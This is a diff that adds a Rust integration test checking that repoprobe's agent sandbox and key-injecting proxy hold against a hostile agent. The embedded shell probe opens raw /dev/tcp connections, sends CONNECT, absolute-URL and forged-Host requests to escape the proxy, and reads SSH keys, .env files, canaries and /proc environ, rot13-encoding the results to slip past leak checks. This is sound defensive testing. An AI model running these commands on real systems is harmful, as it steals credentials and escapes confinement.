@@ -623,3 +623,166 @@ fn a_confined_agent_that_times_out_or_leaves_children_leaves_no_process_behind()
         std::thread::sleep(std::time::Duration::from_millis(100));
     }
 }
+
+/// A canary file outside everything a run needs (`/opt`), removed when dropped.
+struct OptCanary(PathBuf);
+
+impl Drop for OptCanary {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.0);
+    }
+}
+
+/// What the API server and the other loopback server of the network probe received.
+type Hits = std::sync::Arc<std::sync::Mutex<Vec<repoprobe_test_support::Request>>>;
+
+fn recording_server(
+    answer: impl Fn(&repoprobe_test_support::Request) -> String + Send + Sync + 'static,
+) -> (repoprobe_test_support::FakeServer, Hits) {
+    let hits = Hits::default();
+    let h = hits.clone();
+    let server = repoprobe_test_support::FakeServer::start(move |req| {
+        h.lock().unwrap().push(req.clone());
+        repoprobe_test_support::Response::new(200, answer(req))
+    });
+    (server, hits)
+}
+
+#[test]
+fn a_hostile_probe_reaches_the_api_alone_with_a_placeholder_key_and_sees_no_file_but_its_own() {
+    // The key the agent's API call needs: ours, held outside; the probe gets a placeholder.
+    let api_key = format!("sk-probe-real-{}-q7", std::process::id());
+    let expected = api_key.clone();
+    let (api, api_hits) = recording_server(move |req| {
+        if req.header("x-api-key") == Some(expected.as_str()) {
+            format!("api-ok {}", req.path)
+        } else {
+            "api-wrong-key".to_string()
+        }
+    });
+    let (other, other_hits) = recording_server(|_| "other-server-reached".into());
+    let other_port = other.addr().port();
+    let api_port = api.addr().port();
+    let canary = OptCanary(PathBuf::from(format!(
+        "/opt/repoprobe-canary-{}",
+        std::process::id()
+    )));
+    std::fs::create_dir_all(&canary.0).unwrap();
+    std::fs::write(canary.0.join("canary.txt"), "CANARY OPT words").unwrap();
+    let w = world(Some(&|repo: &Path| {
+        // A committed link into the user's ~/.ssh.
+        let home = repo.parent().unwrap().join("home");
+        std::os::unix::fs::symlink(home.join(".ssh"), repo.join("keys")).unwrap();
+    }));
+    let start = w.dir.path().join("start");
+    std::fs::create_dir_all(&start).unwrap();
+    std::fs::write(start.join("canary.txt"), "CANARY CWD words").unwrap();
+    std::fs::write(start.join(".env"), "CANARY DOTENV words").unwrap();
+    let bridge = repoprobe_agent::proxy::BRIDGE_PORT;
+    let probe = format!(
+        r#"exec 2>&1
+r() {{ tr 'A-Za-z' 'N-ZA-Mn-za-m'; }}
+tcp() {{ timeout 5 bash -c "exec 3<>/dev/tcp/$1/$2 && echo open" 2>&1 | head -c 200 | tr '\n' ' '; }}
+ask() {{ timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/{bridge} || exit 1; printf "$0" >&3; cat <&3' "$1" 2>&1 | head -c 300 | tr '\r\n' '  '; }}
+echo "TCP-OTHER: $(tcp 127.0.0.1 {other_port})"
+echo "TCP-API: $(tcp 127.0.0.1 {api_port})"
+echo "DNS: $(timeout 5 getent hosts example.com || echo failed)"
+echo "CONNECT: $(ask 'CONNECT 127.0.0.1:{other_port} HTTP/1.1\r\nHost: 127.0.0.1:{other_port}\r\n\r\n')"
+echo "ABSOLUTE: $(ask 'GET http://127.0.0.1:{other_port}/steal HTTP/1.1\r\nHost: 127.0.0.1:{other_port}\r\nConnection: close\r\n\r\n')"
+echo "FORGED-HOST: $(ask 'GET /forged HTTP/1.1\r\nHost: 127.0.0.1:{other_port}\r\nx-api-key: '"$PROBE_API_KEY"'\r\nConnection: close\r\n\r\n')"
+echo "NUL-HOST: $(ask 'GET http://evil\0.example/ HTTP/1.1\r\nHost: evil\0.example\r\nConnection: close\r\n\r\n')"
+echo "API: $(ask 'GET /v1/ping HTTP/1.1\r\nHost: x\r\nx-api-key: '"$PROBE_API_KEY"'\r\nConnection: close\r\n\r\n')"
+echo "URL: $REPOPROBE_API_URL"
+echo "OPT: $(ls /opt 2>&1; cat {canary}/canary.txt 2>&1 | r)"
+echo "CWD: $(cat {start}/canary.txt {start}/.env 2>&1 | r)"
+echo "ROOT: $(ls / | tr '\n' ' ')"
+echo "SSH-LINK: $(cat keys/id_ed25519 2>&1 | r)"
+for f in /proc/[0-9]*/environ; do echo "ENV $f: $(tr '\0' ' ' < $f 2>&1 | r)"; done
+echo edited > EDITED.md && echo "EDIT: ok"
+"#,
+        canary = canary.0.display(),
+        start = start.display(),
+    );
+    let r = w
+        .answer()
+        .current_dir(&start)
+        .env("PROBE_API_KEY", &api_key)
+        .args([
+            "--agent",
+            "command",
+            "--model",
+            "sh",
+            "--pass-env",
+            "PROBE_API_KEY",
+        ])
+        .args(["--agent-api-url", &api.origin(), "--command"])
+        .arg(probe)
+        .output()
+        .unwrap();
+    assert_eq!(r.status.code(), Some(0), "{}", stderr_of(&r));
+    let recs = records(&w.out);
+    assert_eq!(recs.len(), 1, "{}", stderr_of(&r));
+    let a = &recs[0];
+    let answer = a["answer"].as_str().unwrap_or_else(|| panic!("{a}"));
+    assert_nothing_leaked(&w, &r, answer);
+    let line = |tag: &str| {
+        answer
+            .lines()
+            .find(|l| l.starts_with(&format!("{tag}: ")))
+            .unwrap_or_else(|| panic!("no {tag} line in {answer}"))
+            .to_string()
+    };
+    // No connection but through the proxy, no name resolved.
+    assert!(!line("TCP-OTHER").contains("open"), "{answer}");
+    assert!(!line("TCP-API").contains("open"), "{answer}");
+    assert!(line("DNS").contains("failed"), "{answer}");
+    // The proxy refuses what names another origin, and Host leads nowhere else.
+    assert!(line("CONNECT").contains(" 403 "), "{answer}");
+    assert!(line("ABSOLUTE").contains(" 403 "), "{answer}");
+    assert!(line("FORGED-HOST").contains("api-ok /forged"), "{answer}");
+    let nul = line("NUL-HOST");
+    assert!(nul.contains(" 400 ") || nul.contains(" 403 "), "{answer}");
+    assert!(
+        other_hits.lock().unwrap().is_empty(),
+        "the other server was reached"
+    );
+    // The API is reached with the real key, put in by the proxy; the agent held a placeholder.
+    assert!(line("API").contains("api-ok /v1/ping"), "{answer}");
+    assert!(
+        line("URL").contains(&format!("http://127.0.0.1:{bridge}")),
+        "{answer}"
+    );
+    let seen = api_hits.lock().unwrap();
+    assert!(seen.iter().any(|q| q.path == "/v1/ping"), "{answer}");
+    for q in seen.iter() {
+        assert_eq!(q.header("x-api-key"), Some(api_key.as_str()), "{}", q.path);
+    }
+    assert!(
+        !answer.contains(&rot13(&api_key)) && !answer.contains(&api_key),
+        "{answer}"
+    );
+    assert!(
+        answer.contains(&rot13("PROBE_API_KEY=repoprobe-placeholder-probe-api-key-")),
+        "{answer}"
+    );
+    // Nothing of the host's files but the system's and the run's own.
+    assert!(!answer.contains(&rot13("CANARY OPT")), "{answer}");
+    assert!(!answer.contains(&rot13("CANARY CWD")), "{answer}");
+    assert!(!answer.contains(&rot13("CANARY DOTENV")), "{answer}");
+    let root = line("ROOT");
+    for gone in [" opt ", " srv ", " home ", " root ", " var ", " mnt "] {
+        assert!(!format!("{root} ").contains(gone), "{gone} exists: {root}");
+    }
+    assert!(
+        line("SSH-LINK").contains(&rot13("No such file")),
+        "{answer}"
+    );
+    // Its edit is still recorded.
+    assert!(answer.contains("EDIT: ok"), "{answer}");
+    assert_eq!(a["agent"]["worktree_changed"], true, "{a}");
+    let sandbox = a["agent"]["sandbox"].as_str().unwrap();
+    assert!(
+        sandbox.contains(&format!("network: http://127.0.0.1:{api_port} only")),
+        "{sandbox}"
+    );
+}
